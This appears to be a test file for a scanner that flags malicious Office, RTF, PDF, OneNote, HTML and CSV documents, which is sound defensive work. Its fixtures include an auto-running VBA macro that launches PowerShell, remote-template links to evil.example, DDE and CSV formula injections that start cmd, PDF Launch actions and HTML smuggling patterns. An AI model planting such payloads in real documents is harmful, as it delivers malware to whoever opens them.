import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { oleOf, packVba, vbaStreams } from '#testing/files';
import {
  decompressVba,
  type DocumentFindings,
  inspectOfficePart,
  inspectOle,
  inspectOneNote,
  inspectPage,
  inspectPdf,
  inspectRtf,
  inspectTable,
  isOfficePart,
  openOle,
} from './mod.ts';

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

function ole(streams: Parameters<typeof oleOf>[0]): DocumentFindings {
  return inspectOle(openOle(oleOf(streams)) ?? assert.fail('no OLE file'));
}

const downloader = `Sub AutoOpen()
  Dim s
  Set s = CreateObject("WScript.Shell")
  s.Run "powershell -e x"
End Sub
`;

test('the example of MS-OVBA section 3.2.2 unpacks', () => {
  const packed = Buffer.from(
    '012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c',
    'hex',
  );
  const text = decompressVba(packed);
  assert.equal(Buffer.from(text ?? []).toString('latin1'), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
});

test('the longest copy of MS-OVBA section 3.2.3 unpacks', () => {
  const text = decompressVba(Buffer.from('0103b00261450 0'.replaceAll(' ', ''), 'hex'));
  assert.equal(Buffer.from(text ?? []).toString('latin1'), 'a'.repeat(73));
});

test('what was packed is what is unpacked, over several chunks', () => {
  const text = Array.from({ length: 3000 }, (_, i) => `line ${i}\r\n`).join('');
  assert.equal(Buffer.from(decompressVba(packVba(text)) ?? []).toString('latin1'), text);
});

test('streams of an OLE file are read, small ones and large ones (MS-CFB section 2.3)', () => {
  const large = Buffer.alloc(100_000, 'large ');
  const file =
    openOle(
      oleOf([
        { path: 'Small', content: 'small' },
        { path: 'Store/Large', content: large },
      ]),
    ) ?? assert.fail();
  const contentOf = (path: string): Buffer =>
    Buffer.from(file.read(file.entries.find((entry) => entry.path === path) ?? assert.fail(path)));
  assert.equal(contentOf('Small').toString(), 'small');
  assert.deepEqual(contentOf('Store/Large'), large);
  assert.equal(file.sound, true);
});

test('macros that run by themselves and reach for programs are suspicious', () => {
  const found = ole([
    { path: 'WordDocument', content: Buffer.alloc(64) },
    ...vbaStreams('Macros', { ThisDocument: downloader }),
  ]);
  assert.equal(found.macros, 'suspicious');
  for (const note of ['AutoOpen', 'WScript.Shell', 'powershell']) assert.ok(found.notes.includes(note), note);
});

test('macros that do their work when asked are macros', () => {
  const found = ole(vbaStreams('Macros', { Module1: 'Sub Format()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n' }));
  assert.equal(found.macros, 'present');
});

test('a project of empty modules has no macros', () => {
  assert.equal(ole(vbaStreams('Macros', { ThisDocument: 'Option Explicit\r\n' })).macros, 'none');
});

test('a module whose source was taken out is told', () => {
  const found = ole(vbaStreams('Macros', { Module1: '' }));
  assert.deepEqual([found.macros, found.notes], ['present', ['macro source taken out']]);
});

test('a module that no dir stream names is found by how it begins', () => {
  const stream = Buffer.concat([Buffer.alloc(50), packVba(`Attribute VB_Name = "x"\r\n${downloader}`)]);
  assert.equal(ole([{ path: 'Macros/VBA/hidden', content: stream }]).macros, 'suspicious');
});

test('a word like a procedure is none', () => {
  const found = ole(
    vbaStreams('Macros', { M: '\' see AutoOpen for Shell (x)\r\nSub Other()\r\nShell "x"\r\nEnd Sub\r\n' }),
  );
  assert.equal(found.macros, 'present');
});

function record(type: number, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([head, data]);
}

test('Excel 4 macro sheets, hidden and run by a built-in name (MS-XLS sections 2.4.28 and 2.4.150)', () => {
  const sheet = record(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 5, 0, ...latin1('Macro')]));
  const name = record(0x18, Buffer.from([0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]));
  assert.equal(ole([{ path: 'Workbook', content: sheet }]).macros, 'present');
  const found = ole([{ path: 'Workbook', content: Buffer.concat([sheet, name]) }]);
  assert.deepEqual([found.macros, found.notes], ['suspicious', ['hidden Excel 4 macro sheet', 'Auto_Open']]);
});

test('documents behind a password are told (MS-XLS 2.4.117, MS-DOC 2.5.2, MS-OFFCRYPTO 2.3.4.4)', () => {
  assert.deepEqual(ole([{ path: 'Workbook', content: record(0x2f, Buffer.alloc(6)) }]).signs, ['encrypted']);
  const fib = Buffer.alloc(32);
  fib.writeUInt16LE(0x0100, 10);
  assert.deepEqual(ole([{ path: 'WordDocument', content: fib }]).signs, ['encrypted']);
  assert.deepEqual(ole([{ path: 'EncryptedPackage', content: 'x' }]).signs, ['encrypted']);
});

function native(name: string, content: string): Buffer {
  const size = (value: number): Buffer => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(value);
    return b;
  };
  const rest = Buffer.concat([
    latin1(`\x02\0${name}\0C:\\x\\${name}\0\0\0\x03\0`),
    size(4),
    latin1('tmp\0'),
    size(content.length),
    latin1(content),
  ]);
  return Buffer.concat([size(rest.length), rest]);
}

test('packed files are taken out with their names (MS-OLEDS section 2.3.6)', () => {
  const found = ole([{ path: 'ObjectPool/\x01Ole10Native', content: native('run.js', 'WScript.Echo(1)') }]);
  assert.deepEqual(found.signs, ['embedded-object']);
  assert.deepEqual(
    found.files.map((file) => [file.name, Buffer.from(file.octets).toString()]),
    [['run.js', 'WScript.Echo(1)']],
  );
});

test('attachments of an Outlook message are taken out (MS-OXMSG section 2.2.2)', () => {
  const found = ole([
    { path: '__properties_version1.0', content: 'x' },
    { path: '__attach_version1.0_#00000000/__substg1.0_37010102', content: 'MZ' },
    { path: '__attach_version1.0_#00000000/__substg1.0_3707001F', content: Buffer.from('rechnung ä.exe', 'utf16le') },
  ]);
  assert.deepEqual(
    found.files.map((file) => [file.name, Buffer.from(file.octets).toString()]),
    [['rechnung ä.exe', 'MZ']],
  );
});

test('an OLE file whose chains run in circles is read to an end, and told', () => {
  const good = oleOf([
    { path: 'WordDocument', content: Buffer.alloc(20_000, 1) },
    ...vbaStreams('Macros', { M: downloader }),
  ]);
  for (let at = 24; at < good.length; at += 4) {
    for (const value of [0, 1, 2, 5, 0xff_ff_ff_fe]) {
      const bad = Buffer.from(good);
      if (at >= 512 && at % 64 !== 0 && at < good.length - 4096) continue;
      bad.writeUInt32LE(value, at);
      const file = openOle(bad);
      if (file !== undefined) inspectOle(file);
    }
  }
});

test('OOXML: relationships that fetch from elsewhere (ECMA-376 part 2 section 9.3)', () => {
  const rels = (type: string, target: string, mode = 'External'): DocumentFindings =>
    inspectOfficePart(
      'word/_rels/settings.xml.rels',
      latin1(
        `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
      ),
    );
  assert.deepEqual(rels('attachedTemplate', 'https://evil.example/t.dotm').signs, ['external-template']);
  assert.deepEqual(rels('attachedTemplate', 'https&#58;//evil.example/t.dotm').notes, ['https://evil.example/t.dotm']);
  assert.deepEqual(rels('attachedTemplate', 'file:///C:/Templates/Letter.dotx').signs, []);
  assert.deepEqual(rels('frame', '\\\\192.0.2.1\\x').signs, ['external-template']);
  assert.deepEqual(rels('oleObject', 'mhtml:http://evil.example/x!x-usc:http://evil.example/x').signs, [
    'embedded-object',
    'external-template',
  ]);
  assert.deepEqual(rels('hyperlink', 'https://example.com/').signs, []);
  assert.equal(rels('vbaProject', 'odd.bin', 'Internal').macros, 'present');
});

test('OOXML: fields that start programs, cut into runs', () => {
  const story = latin1(
    '<w:p><w:instrText>D</w:instrText><w:r/><w:instrText xml:space="preserve">DEAU</w:instrText><w:instrText>TO c:\\\\windows</w:instrText></w:p>',
  );
  assert.deepEqual(inspectOfficePart('word/document.xml', story).signs, ['dde']);
  assert.deepEqual(inspectOfficePart('word/document.xml', latin1('<w:fldSimple w:instr=" DDE x "/>')).signs, ['dde']);
  assert.deepEqual(inspectOfficePart('word/document.xml', latin1('<w:t>DDEAUTO</w:t>')).signs, []);
  assert.deepEqual(
    inspectOfficePart(
      'xl/externalLinks/externalLink1.xml',
      latin1('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    ).signs,
    ['dde'],
  );
});

test('OOXML: macro sheets, and what runs them', () => {
  assert.equal(inspectOfficePart('xl/macrosheets/sheet1.xml', latin1('<x/>')).macros, 'present');
  assert.equal(
    inspectOfficePart('xl/workbook.xml', latin1('<definedName name="_xlnm.Auto_Open">x</definedName>')).macros,
    'suspicious',
  );
  assert.equal(isOfficePart('word/media/image1.png'), false);
});

test('OOXML: entities are never expanded, and a million tags take no time', () => {
  const bomb = latin1(
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'<!ENTITY b "&a;&a;&a;">'.repeat(100)}]><Relationships>${'<Relationship '.repeat(200_000)}`,
  );
  const begin = process.cpuUsage();
  inspectOfficePart('_rels/.rels', bomb);
  inspectOfficePart('word/document.xml', Buffer.alloc(3_000_000, '<'));
  inspectOfficePart('word/document.xml', Buffer.alloc(3_000_000, '<w:instrText>'));
  assert.ok(process.cpuUsage(begin).user < 1_500_000);
});

function rtfObject(className: string, data: Buffer): string {
  const head = Buffer.alloc(12);
  head.writeUInt32LE(0x0501, 0);
  head.writeUInt32LE(2, 4);
  head.writeUInt32LE(className.length + 1, 8);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([head, latin1(`${className}\0`), Buffer.alloc(8), size, data]).toString('hex');
}

test('RTF: packed files in objects, however the digits hide (RTF 1.9.1, MS-OLEDS section 2.2.5)', () => {
  const hex = rtfObject('Package', native('run.vbs', 'x=1').subarray(4));
  const hidden = hex.replaceAll(/(.{20})/g, '$1\r\n {\\*\\x 4} ');
  for (const digits of [hex, hex.replaceAll(/(.{11})/g, '$1\r\n ')]) {
    const found = inspectRtf(latin1(`{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${digits}}}}`));
    assert.deepEqual(found.signs, ['embedded-object']);
    assert.deepEqual(
      found.files.map(({ name }) => name),
      ['run.vbs'],
    );
  }
  assert.deepEqual(inspectRtf(latin1(`{\\rtf{\\object{\\*\\objdata ${hidden}}}}`)).signs, ['embedded-object']);
});

test('RTF: an object whose data is written as octets (RTF 1.9.1, "Binary data")', () => {
  const octets = Buffer.from(rtfObject('Equation.3', latin1('x}{x')), 'hex');
  const text = `{\\rtf1{\\object{\\*\\objdata\\bin${octets.length} ${octets.toString('latin1')}}}}`;
  assert.deepEqual([...inspectRtf(latin1(text)).signs].sort(), ['embedded-object', 'equation']);
});

test('RTF: the equation editor, objects that update themselves, templates from elsewhere', () => {
  const found = inspectRtf(
    latin1(`{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata ${rtfObject('Equation.3', latin1('xxx'))}}}`),
  );
  assert.deepEqual([...found.signs].sort(), ['auto-object', 'embedded-object', 'equation']);
  assert.deepEqual(inspectRtf(latin1('{\\rtf1{\\*\\template http://evil.example/x}}')).signs, ['external-template']);
  assert.deepEqual(inspectRtf(latin1('{\\rtf1{\\*\\template C:\\\\Normal.dot}}')).signs, []);
});

test('PDF: names that act, also escaped and in object streams (ISO 32000-1 sections 7.3.5 and 7.5.7)', () => {
  assert.deepEqual(inspectPdf(latin1('%PDF-1.4\n1 0 obj<</S/JavaScript/JS(x)>>')).signs, ['script']);
  assert.deepEqual(inspectPdf(latin1('%PDF-1.4\n1 0 obj<</S /#4caunch /F(cmd.exe)>>')).signs, ['launch']);
  assert.deepEqual(inspectPdf(latin1('%PDF-1.4\ntrailer<</Encrypt 5 0 R>>')).signs, ['encrypted']);
  assert.deepEqual(inspectPdf(latin1('%PDF-1.4\n1 0 obj<</Type/Page/Launcher 1/JSX 2>>')).signs, []);
  const stream = deflateSync(latin1('1 0 <</S/Launch/F(cmd.exe)>>'));
  const packed = Buffer.concat([
    latin1('%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 9>>stream\r\n'),
    stream,
    latin1('\r\nendstream'),
  ]);
  assert.deepEqual(inspectPdf(packed).signs, ['launch']);
});

test('PDF: files in it are taken out', () => {
  const stream = deflateSync(latin1('MZ program'));
  const pdf = Buffer.concat([
    latin1('%PDF-1.5\n7 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n'),
    stream,
    latin1('\nendstream'),
  ]);
  const found = inspectPdf(pdf);
  assert.deepEqual(
    found.files.map(({ octets }) => Buffer.from(octets).toString()),
    ['MZ program'],
  );
});

test('PDF: a bomb of object streams ends', () => {
  const stream = deflateSync(Buffer.alloc(3_000_000));
  const one = Buffer.concat([
    latin1('1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
    stream,
    latin1('\nendstream\n'),
  ]);
  const begin = process.cpuUsage();
  assert.equal(
    inspectPdf(Buffer.concat([latin1('%PDF-1.5\n'), ...Array.from({ length: 1000 }, () => one)])).complete,
    false,
  );
  assert.ok(process.cpuUsage(begin).user < 1_500_000);
});

test('OneNote: files in a page (MS-ONESTORE section 2.6.13)', () => {
  const head = Buffer.concat([Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'), Buffer.alloc(20)]);
  head.writeUInt32LE(6, 16);
  const found = inspectOneNote(Buffer.concat([Buffer.alloc(100), head, latin1('script trailing')]));
  assert.deepEqual(
    found.files.map(({ octets }) => Buffer.from(octets).toString()),
    ['script'],
  );
});

test('pages: files made of text in the page, scripts, passwords', () => {
  assert.deepEqual(inspectPage(latin1('<html><script>a.href=URL.createObjectURL(b)</script>')).signs, [
    'script',
    'smuggling',
  ]);
  assert.deepEqual(inspectPage(latin1(`<script>x=atob("${'QUJD'.repeat(600)}")</script>`)).signs, [
    'script',
    'smuggling',
  ]);
  assert.deepEqual(inspectPage(latin1('<form><input type="password"></form>')).signs, ['form']);
  assert.deepEqual(inspectPage(Buffer.from('\ufeff<body onload = "x()">', 'utf16le')).signs, ['script']);
  assert.deepEqual(inspectPage(Buffer.from('\ufeff<script>x()</script>', 'utf16le').swap16()).signs, ['script']);
  assert.deepEqual(inspectPage(latin1('<svg xmlns:s="x"><s:script>x()</s:script></svg>')).signs, ['script']);
  assert.deepEqual(
    inspectPage(latin1(`<a download=a.zip href="data:application/zip;base64,${'UEsD'.repeat(200)}">`)).signs,
    ['smuggling'],
  );
  assert.deepEqual(inspectPage(latin1(`<img src="data:image/png;base64,${'UEsD'.repeat(200)}">`)).signs, []);
  assert.deepEqual(inspectPage(latin1('<html><p>Hello</p>')).signs, []);
});

test('tables: formulas that start programs', () => {
  assert.deepEqual(inspectTable(latin1("a,b\r\n=cmd|'/c calc'!A0,x\r\n")).signs, ['dde']);
  assert.deepEqual(inspectTable(latin1('a,"=MSEXCEL|\'\\..\\..\\cmd\'!x"\r\n')).signs, ['dde']);
  assert.deepEqual(inspectTable(latin1('name|mail\r\nAnn|ann@example.com\r\n')).signs, []);
  assert.equal(inspectTable(latin1('ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("cmd")\r\n')).macros, 'suspicious');
});

test('a binary workbook whose macro sheet runs by itself (MS-XLSB section 2.4.711)', () => {
  const names = (name: string): Buffer =>
    Buffer.concat([Buffer.alloc(20, 7), Buffer.from(name, 'utf16le'), Buffer.alloc(9)]);
  assert.equal(inspectOfficePart('xl/workbook.bin', names('_xlnm.Auto_Open')).macros, 'suspicious');
  assert.equal(inspectOfficePart('xl/workbook.bin', names('Sheet1')).macros, 'none');
});

test('pages: what a script unpacks and writes out is looked at as well', () => {
  const form = '<form action="https://a.example/"><input type="password"></form>';
  const packed = Buffer.from(form).toString('base64');
  const twice = Buffer.from(`document.write(unescape("${encodeURIComponent(form)}"))`).toString('base64');
  for (const script of [
    `document.write(atob("${packed}"))`,
    `document.write(unescape('${encodeURIComponent(form)}'))`,
    `document.write(decodeURIComponent(\`${encodeURIComponent(form)}\`))`,
    `eval(atob('${twice}'))`,
  ])
    assert.deepEqual(inspectPage(latin1(`<script>${script}</script>`)).signs, ['script', 'form'], script.slice(0, 40));
  const began = performance.now();
  inspectPage(latin1('atob("'.repeat(170_000)));
  assert.ok(performance.now() - began < 2_000);
});

test('where links of documents lead is told: PDF (ISO 32000-1 section 12.6.4.7), OOXML, RTF', () => {
  const stream = deflateSync(latin1('1 0 <</S/URI/URI(https://c.example/)>>'));
  const pdf = Buffer.concat([
    latin1(
      '%PDF-1.5\n<</S/URI /URI (https://a.example/\\(x\\)\\057y)>> <</URI <68747470733a2f2f622e6578616d706c652f>>>\n',
    ),
    latin1('2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
    stream,
    latin1('\nendstream'),
  ]);
  assert.deepEqual(inspectPdf(pdf).links, ['https://a.example/(x)/y', 'https://b.example/', 'https://c.example/']);
  const relationships = latin1(
    '<Relationship Type="http://x.example/hyperlink" Target="https://a.example/?b&amp;c" TargetMode="External"/>',
  );
  assert.deepEqual(inspectOfficePart('word/_rels/document.xml.rels', relationships).links, ['https://a.example/?b&c']);
  assert.deepEqual(inspectRtf(latin1('{\\rtf1{\\*\\fldinst HYPERLINK "https://a.example/"}}')).links, [
    'https://a.example/',
  ]);
  const began = performance.now();
  inspectPdf(latin1(`%PDF-1.4\n${'/URI('.repeat(1_000_000)}`));
  assert.ok(performance.now() - began < 3_000);
});
